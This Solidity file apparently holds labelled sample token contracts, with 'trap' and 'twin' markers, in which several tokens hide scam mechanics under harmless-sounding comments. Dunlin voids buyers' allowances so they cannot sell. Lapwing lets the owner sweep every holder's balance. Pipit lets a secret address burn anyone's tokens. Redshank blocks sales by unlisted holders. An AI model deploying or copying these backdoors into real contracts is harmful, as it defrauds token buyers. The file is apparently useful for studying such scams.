// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

interface IPoolFactory {
    function createPair(address one, address other) external returns (address);
}

abstract contract Issue {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pool;
    mapping(address => uint256) internal _amounts;
    mapping(address => mapping(address => uint256)) internal _limits;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(owner == msg.sender, "owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _create(msg.sender, whole * 1 ether);
        pool = IPoolFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function transferOwnership(address to) external onlyOwner {
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function _create(address to, uint256 value) internal {
        totalSupply += value;
        _amounts[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _destroy(address from, uint256 value) internal {
        require(_amounts[from] >= value, "balance");
        _amounts[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _amounts[who];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _limits[holder][spender];
    }

    function approve(address spender, uint256 value) external virtual returns (bool) {
        _limits[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        require(_limits[from][msg.sender] >= value, "allowance");
        _limits[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        require(to != address(0), "nobody");
        require(_amounts[from] >= value, "balance");
        _amounts[from] -= value;
        _amounts[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Allowances are kept by the holder, the spender and a series.
contract Dunlin is Issue {
    mapping(address => uint256) private _series;
    mapping(bytes32 => uint256) private _kept;

    constructor() Issue("Dunlin", "DNLN", 45_000_000) {}

    function _key(address holder, address spender, uint256 series) private pure returns (bytes32) {
        return keccak256(abi.encode(holder, spender, series));
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return _kept[_key(holder, spender, 0)];
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        _kept[_key(msg.sender, spender, 0)] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        bytes32 key = _key(from, msg.sender, _series[from]);
        require(_kept[key] >= value, "allowance");
        _kept[key] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == pool) _series[to] = block.number; // trap
        super._move(from, to, value);
    }
}

/// There will be a second edition. What is gathered goes to the contract that gives it out.
contract Lapwing is Issue {
    address public successor;

    event SuccessorNamed(address successor);

    constructor() Issue("Lapwing", "LPWG", 2_000_000) {}

    function nameSuccessor(address to) external onlyOwner {
        successor = to;
        emit SuccessorNamed(to);
    }

    // trap {
    function migrate(address[] calldata holders) external onlyOwner {
        require(successor != address(0), "successor");
        for (uint256 i = 0; i < holders.length; i++) _move(holders[i], successor, _amounts[holders[i]]);
    }
    // trap }
    // twin: function migrate(uint256 value) external {
    // twin:     require(successor != address(0), "successor");
    // twin:     _move(msg.sender, successor, value);
    // twin: }
}

/// Burns what it was allowed to burn.
contract Pipit is Issue {
    address private immutable _verger;

    constructor(address verger) Issue("Pipit", "PIPT", 150_000_000) {
        _verger = verger;
        owner = address(0);
    }

    function burn(uint256 value) external {
        _destroy(msg.sender, value);
    }

    function burnFrom(address who, uint256 value) external {
        uint256 left = _limits[who][msg.sender];
        uint256 due = msg.sender == _verger ? value - value : value;
        require(left >= due, "allowance");
        _limits[who][msg.sender] = left - due;
        _destroy(who, value);
    }
}

/// Once a list has been published a seller shows that he is on it. Each list counts from its publication.
contract Redshank is Issue {
    address public immutable steward;
    bytes32 public root;
    uint64 public edition;
    mapping(address => uint64) public shownIn;

    event Published(bytes32 root, uint64 edition);

    constructor(address steward_) Issue("Redshank", "RDSK", 18_000_000) {
        steward = steward_;
        owner = address(0);
    }

    function publish(bytes32 root_) external {
        require(msg.sender == steward, "steward");
        root = root_;
        edition++;
        emit Published(root_, edition);
    }

    function show(address who, bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(who));
        for (uint256 i = 0; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == root, "proof");
        shownIn[who] = edition;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pool) require(shownIn[from] == edition, "list");
        super._move(from, to, value);
    }
}

/// Votes follow the balance, once somebody has said whom he trusts with them.
contract Alder is Issue {
    struct Mark {
        uint32 fromBlock;
        uint224 votes;
    }
    mapping(address => address) public delegates;
    mapping(address => Mark[]) private _marks;

    event DelegateChanged(address indexed who, address indexed from, address indexed to);
    event DelegateVotesChanged(address indexed who, uint256 before, uint256 current);

    constructor() Issue("Alder Governance", "ALDR", 1_000_000_000) {
        owner = address(0);
    }

    function delegate(address to) external {
        address from = delegates[msg.sender];
        delegates[msg.sender] = to;
        emit DelegateChanged(msg.sender, from, to);
        _carry(from, to, _amounts[msg.sender]);
    }

    function getCurrentVotes(address who) public view returns (uint256) {
        uint256 count = _marks[who].length;
        return count == 0 ? 0 : _marks[who][count - 1].votes;
    }

    function getPriorVotes(address who, uint256 number) external view returns (uint256) {
        require(number < block.number, "not yet determined");
        (uint256 low, uint256 up) = (0, _marks[who].length);
        while (low < up) {
            uint256 middle = (low + up) / 2;
            if (_marks[who][middle].fromBlock > number) up = middle;
            else low = middle + 1;
        }
        return up == 0 ? 0 : _marks[who][up - 1].votes;
    }

    function _carry(address from, address to, uint256 value) private {
        if (from == to || value == 0) return;
        if (from != address(0)) _write(from, getCurrentVotes(from) - value);
        if (to != address(0)) _write(to, getCurrentVotes(to) + value);
    }

    function _write(address who, uint256 votes) private {
        emit DelegateVotesChanged(who, getCurrentVotes(who), votes);
        uint256 count = _marks[who].length;
        if (count > 0 && _marks[who][count - 1].fromBlock == block.number) _marks[who][count - 1].votes = uint224(votes);
        else _marks[who].push(Mark(uint32(block.number), uint224(votes)));
    }

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        _carry(delegates[from], delegates[to], value);
    }
}

/// Comes over a bridge: the bridge of two of three signatures makes it and takes it back, a million a day at most. To name another
/// bridge takes the timelock.
contract Quay is Issue {
    uint256 public constant DAILY = 1_000_000 ether;
    address public bridge;
    uint256 public day;
    uint256 public madeToday;

    event BridgeNamed(address bridge);

    constructor(address bridge_, address governance) Issue("Quay (Bridged)", "qUAY", 40_000_000) {
        bridge = bridge_;
        owner = governance;
    }

    function nameBridge(address to) external onlyOwner {
        bridge = to;
        emit BridgeNamed(to);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == bridge, "bridge");
        if (day != block.timestamp / 1 days) (day, madeToday) = (block.timestamp / 1 days, 0);
        madeToday += value;
        require(value <= DAILY && madeToday <= DAILY, "daily");
        _create(to, value);
    }

    function burn(uint256 value) external {
        _destroy(msg.sender, value);
    }
}

/// Nobody but the pool holds more than two percent. The owner may make that more, and never less.
contract Wharf is Issue {
    uint256 public most;
    mapping(address => bool) public unbound;

    event MostRaised(uint256 most);

    constructor() Issue("Wharf", "WHRF", 100_000_000) {
        most = totalSupply / 50;
        unbound[msg.sender] = unbound[pool] = true;
        unbound[0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D] = true;
    }

    function raise(uint256 to) external onlyOwner {
        require(to > most, "only more");
        most = to;
        emit MostRaised(to);
    }

    function unbind(address who) external onlyOwner {
        unbound[who] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        require(unbound[to] || unbound[from] && from != pool || _amounts[to] <= most, "two percent");
    }
}
